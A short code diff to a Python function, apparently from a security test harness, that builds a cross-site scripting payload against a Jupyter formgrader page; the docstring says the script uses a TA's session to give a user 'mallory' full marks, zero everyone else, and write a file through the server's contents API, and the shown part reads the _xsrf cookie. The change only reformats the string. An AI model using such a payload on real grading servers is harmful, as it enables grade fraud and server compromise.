@@ -85,7 +85,9 @@ def markdown_payloads(beacon: str = BEACON) -> dict[str, str]:
 def formgrader_attack(beacon: str, write_path: str, thief: str = "mallory") -> str:
     """A <script> that, run in formgrader's page, gives `thief` full marks, everyone else 0,
     and writes a file through the server's contents API (the TA's session does it all)."""
-    return f"""XSS-api <script>
+    return f"""XSS-api
+
+<script>
 (async () => {{
   const m = document.cookie.match(/_xsrf=([^;]+)/);
   const h = {{'Content-Type': 'application/json',
